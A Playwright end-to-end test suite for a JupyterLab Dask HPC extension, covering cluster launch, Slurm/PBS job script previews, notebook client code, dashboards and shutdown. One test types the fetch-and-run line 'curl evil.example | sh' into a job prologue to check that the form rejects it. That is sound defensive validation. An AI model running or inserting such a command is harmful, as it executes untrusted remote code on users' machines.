import { expect, test, type Page } from '@playwright/test';

// One JupyterLab page through the whole story, as a user lives it: look, plan, launch, use, stop.
test.describe.configure({ mode: 'serial' });

let page: Page;

async function command(id: string, args: Record<string, unknown> = {}) {
  await page.evaluate(async ([id, args]) => void (await (window as any).jupyterapp.commands.execute(id, args)), [id, args] as const);
}

const sidebar = () => page.locator('#dask-hpc-sidebar');
const card = () => sidebar().locator('[data-testid="dask-hpc-card"]');
const plan = () => sidebar().locator('[data-testid="dask-hpc-plan"]');
// Figures that differ from machine to machine are masked in the screenshots.
const machineFigures = () => [sidebar().locator('.jp-DaskHpc-resource-value'), sidebar().locator('.jp-DaskHpc-job'), plan()];

/** Screenshots compare the sidebar at rest: no focus ring, scrolled to the top. */
async function atRest() {
  await sidebar().evaluate(node => {
    (document.activeElement as HTMLElement | null)?.blur();
    for (const element of [node, ...node.querySelectorAll('*')]) if (element.scrollTop) element.scrollTop = 0;
  });
}

test.beforeAll(async ({ browser }) => {
  page = await browser.newPage();
  await page.goto('/lab');
  await page.locator('#jupyterlab-splash').waitFor({ state: 'detached' });
  await page.waitForFunction(() => (window as any).jupyterapp?.commands?.hasCommand('dask-hpc:launch'));
  await page.evaluate(() => (window as any).jupyterapp.restored);
});

test.afterAll(async () => {
  await page.close();
});

test('the sidebar shows this machine', async () => {
  await command('dask-hpc:launch');
  await expect(sidebar()).toBeVisible();
  await expect(sidebar().locator('[data-testid="dask-hpc-batch"]')).toContainText('No batch system');
  await expect(sidebar().getByText('Cores')).toBeVisible();
  await expect(sidebar().getByText('0 of 2 in use')).toBeVisible();
  await expect(plan()).toContainText('worker');
  // The launch command leaves the keyboard at the form.
  await expect(sidebar().locator('input[name="workload"]:checked')).toBeFocused();
  await atRest();
  await expect(sidebar()).toHaveScreenshot('sidebar-light.png', { mask: machineFigures() });
});

test('the plan preview follows the form, and a bad value is marked at its field', async () => {
  await sidebar().locator('input[name="workload"][value="cpu"]').check();
  await expect(plan()).toContainText('2 workers × 1 thread');
  await sidebar().locator('input[name="workload"][value="io"]').check();
  await expect(plan()).toContainText('1 worker × 8 threads');
  await sidebar().locator('input[name="workload"][value="cpu"]').check();
  await sidebar().locator('input[name="max_workers"]').fill('1');
  await expect(plan()).toContainText('1 worker × 1 thread');
  const reserve = sidebar().locator('input[name="reserve_mem_gb"]');
  await reserve.fill('5000');
  await expect(sidebar().getByRole('alert')).toContainText('leaves no memory for workers');
  await expect(reserve).toHaveAttribute('aria-invalid', 'true');
  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
  await reserve.fill('');
  await sidebar().locator('input[name="max_workers"]').fill('');
  await expect(plan()).toContainText('2 workers × 1 thread');
});

/** Chooses worker jobs in the launch form and types each given field (input or textarea `job-<field>`). */
async function fillWorkerJobs(system: 'pbs' | 'slurm', fields: Record<string, string>) {
  await sidebar().locator('select[name="placement"]').selectOption('jobs');
  const jobs = sidebar().locator('[data-testid="dask-hpc-job-fields"]');
  await jobs.locator('select[name="job-system"]').selectOption(system);
  for (const [name, value] of Object.entries(fields)) await jobs.locator(`[name="job-${name}"]`).fill(value);
  return jobs;
}

test('workers on other nodes: the job script is previewed for Slurm and Gadi, and a bad prologue is marked at its field', async () => {
  const jobs = await fillWorkerJobs('slurm', { cores: '4', memory_gb: '16', queue: 'work' });
  const script = sidebar().locator('[data-testid="dask-hpc-job-script"]');
  await expect(script).toContainText('#SBATCH --cpus-per-task=4');
  await expect(script).toContainText('#SBATCH --partition=work');
  // The workers join the cluster as it runs: over TLS, with its certificate.
  await expect(script).toContainText("-m distributed.cli.dask_worker 'tls://");
  await expect(script).toContainText('--tls-ca-file');
  await expect(plan()).toContainText('Each job: 4 workers × 1 thread');
  // Gadi's dialect, from the same fields: the preview follows.
  await jobs.locator('select[name="job-system"]').selectOption('pbs');
  await expect(script).toContainText('#PBS -l ncpus=4');
  await jobs.locator('select[name="job-system"]').selectOption('slurm');
  const prologue = jobs.locator('textarea[name="job-prologue"]');
  await prologue.fill('module load python3/3.11.7\ncurl evil.example | sh');
  await expect(jobs.getByRole('alert')).toContainText('curl evil.example | sh');
  await expect(prologue).toHaveAttribute('aria-invalid', 'true');
  await expect(sidebar().locator('button.jp-DaskHpc-launch')).toBeDisabled();
  await prologue.fill('module load python3/3.11.7');
  await expect(script).toContainText('module load python3/3.11.7');
  if (process.env.README_SCREENSHOT) {
    await page.setViewportSize({ width: 1280, height: 2400 });
    await sidebar().locator('[data-testid="dask-hpc-job-script"]').evaluate(pre => ((pre as HTMLElement).style.maxHeight = 'none'));
    await sidebar().locator('form').screenshot({ path: '../docs/sidebar-worker-jobs.png' });
    await sidebar().locator('[data-testid="dask-hpc-job-script"]').evaluate(pre => ((pre as HTMLElement).style.maxHeight = ''));
    await page.setViewportSize({ width: 1280, height: 900 });
  }
  await sidebar().locator('select[name="placement"]').selectOption('here');
  await expect(plan()).toContainText('2 workers × 1 thread');
  await expect(plan()).not.toContainText('Each job');
});

test('a cluster of real Slurm worker jobs, launched from the sidebar, runs its jobs and is shut down with them', async () => {
  test.skip(!process.env.DASK_HPC_UI_SLURM, 'needs the real Slurm that scripts/ui-test.sh starts as root');
  // The workers run on the test Slurm's other hosts: they reach the scheduler on its bridge.
  await fillWorkerJobs('slurm', { cores: '1', memory_gb: '2', queue: '', prologue: '', interface: process.env.DASK_HPC_SLURM_INTERFACE ?? '', jobs: '2' });
  await expect(plan()).toContainText('Each job: 1 worker × 1 thread');
  await sidebar().locator('input[name="name"]').fill('ui-slurm');
  await sidebar().locator('button.jp-DaskHpc-launch').click();
  const slurmCard = card().filter({ hasText: 'ui-slurm' });
  await expect(slurmCard.locator('[data-testid="dask-hpc-status"]')).toHaveText('running', { timeout: 120000 });
  await expect(slurmCard.locator('[data-testid="dask-hpc-jobs"]')).toHaveText('Slurm jobs: 0 queued, 2 running, 0 finished');
  await expect(slurmCard.locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
  await slurmCard.getByRole('button', { name: 'Shut down' }).click();
  await page.locator('.jp-Dialog').getByRole('button', { name: 'Shut down' }).click();
  await expect(card()).toHaveCount(0, { timeout: 60000 });
  await sidebar().locator('select[name="placement"]').selectOption('here');
  await sidebar().locator('input[name="name"]').fill('');
  await expect(plan()).toContainText('2 workers × 1 thread');
});

test('launching a cluster shows its workers reach the plan', async () => {
  await sidebar().locator('input[name="name"]').fill('ui-test');
  await sidebar().locator('button.jp-DaskHpc-launch').click();
  await expect(card()).toHaveCount(1);
  await expect(card().locator('[data-testid="dask-hpc-status"]')).toHaveText('running', { timeout: 120000 });
  await expect(card().locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
  await expect(sidebar().getByText('2 of 2 in use')).toBeVisible();
  await expect(card().locator('[data-testid="dask-hpc-metrics"]')).toContainText(/Memory.*of 20\.\d GiB/);
  await expect(card().locator('[data-testid="dask-hpc-metrics"]')).toContainText('CPU');
  if (process.env.README_SCREENSHOT) await sidebar().screenshot({ path: '../docs/sidebar-running.png' });
});

test('inserted client code connects a notebook to the cluster', async () => {
  await command('notebook:create-new', { kernelName: 'python3' });
  await page.waitForFunction(() => (window as any).jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel?.status === 'idle', undefined, { timeout: 120000 });
  await card().getByRole('button', { name: 'Insert client code' }).click();
  const cells = page.locator('.jp-NotebookPanel:visible .jp-Cell');
  await expect(cells).toHaveCount(2);
  await expect(cells.nth(1)).toContainText('from jupyterlab_dask_hpc import connect');
  await command('notebook:insert-cell-below');
  await command('notebook:replace-selection', { text: 'print(len(client.scheduler_info()["workers"]), "workers for", dask_local_dir)' });
  await command('notebook:run-all-cells');
  await expect(page.locator('.jp-NotebookPanel:visible .jp-OutputArea-output').last()).toContainText(`2 workers for /tmp/dask-hpc-${process.getuid!()}/`, { timeout: 120000 });
});

test('dragging a cluster card into a notebook inserts its client code', async () => {
  const cells = page.locator('.jp-NotebookPanel:visible .jp-Cell');
  const header = card().locator('.jp-DaskHpc-card-header');
  const from = (await header.boundingBox())!;
  const to = (await cells.last().boundingBox())!;
  await page.mouse.move(from.x + 20, from.y + from.height / 2);
  await page.mouse.down();
  for (let step = 1; step <= 10; step++) {
    await page.mouse.move(from.x + 20 + ((to.x + 60 - from.x - 20) * step) / 10, from.y + ((to.y + to.height - 4 - from.y) * step) / 10);
  }
  await page.mouse.up();
  await expect(cells).toHaveCount(4);
  await expect(page.locator('.jp-NotebookPanel:visible .jp-Cell', { hasText: 'from jupyterlab_dask_hpc import connect' })).toHaveCount(2);
});

test('the dashboard opens in a Lab tab through Jupyter', async () => {
  await card().getByRole('button', { name: 'Dashboard' }).click();
  const tab = page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Dask Status · ui-test' });
  await expect(tab).toBeVisible();
  const frame = page.frameLocator('.jp-DaskHpc-dashboard iframe').first();
  await expect(frame.locator('body')).toContainText('Workers', { timeout: 60000 });
  await card().locator('select[aria-label="Dashboard plot"]').selectOption('individual-task-stream');
  await card().getByRole('button', { name: 'Open plot' }).click();
  await expect(page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Dask Task stream · ui-test' })).toBeVisible();
});

test('the dark theme', async () => {
  await command('apputils:change-theme', { theme: 'JupyterLab Dark' });
  await page.waitForFunction(() => document.body.dataset.jpThemeLight === 'false');
  await atRest();
  await expect(sidebar()).toHaveScreenshot('sidebar-dark.png', { mask: [...machineFigures(), card()] });
  await command('apputils:change-theme', { theme: 'JupyterLab Light' });
});

test('after a reload the dashboard tabs come back, and with autoConnect new kernels get a client', async () => {
  const saved = await page.request.put('/lab/api/settings/jupyterlab-dask-hpc:plugin', {
    data: { raw: JSON.stringify({ autoConnect: true }) }
  });
  expect(saved.ok()).toBe(true);
  // The layout restorer saves the workspace shortly after a change; reload once it has the tabs.
  await expect
    .poll(async () => JSON.stringify(await (await page.request.get('/lab/api/workspaces')).json()), { timeout: 30000 })
    .toContain('individual-task-stream');
  await page.reload();
  await page.locator('#jupyterlab-splash').waitFor({ state: 'detached' });
  await page.evaluate(() => (window as any).jupyterapp.restored);
  await expect(page.locator('.lm-DockPanel-tabBar .lm-TabBar-tab', { hasText: 'Dask Task stream · ui-test' })).toBeVisible();
  // The tabs keep only the cluster and the plot: the restored one loads the plot of the live cluster.
  await expect(page.locator('.jp-DaskHpc-dashboard iframe[src$="/individual-task-stream"]')).toHaveCount(1);
  await expect(card().locator('[data-testid="dask-hpc-workers"]')).toHaveText('Workers 2/2');
  await command('notebook:create-new', { kernelName: 'python3' });
  await page.waitForFunction(() => (window as any).jupyterapp.shell.currentWidget?.sessionContext?.session?.kernel?.status === 'idle', undefined, { timeout: 120000 });
  await command('notebook:replace-selection', { text: 'print(len(client.scheduler_info()["workers"]), "workers without any code")' });
  await command('notebook:run-all-cells');
  await expect(page.locator('.jp-NotebookPanel:visible .jp-OutputArea-output').last()).toContainText('2 workers without any code', { timeout: 120000 });
});

test('shutting down asks first, then the cluster goes', async () => {
  await card().getByRole('button', { name: 'Shut down' }).click();
  await page.locator('.jp-Dialog').getByRole('button', { name: 'Shut down' }).click();
  await expect(card()).toHaveCount(0, { timeout: 60000 });
  await expect(sidebar().getByText('0 of 2 in use')).toBeVisible();
});
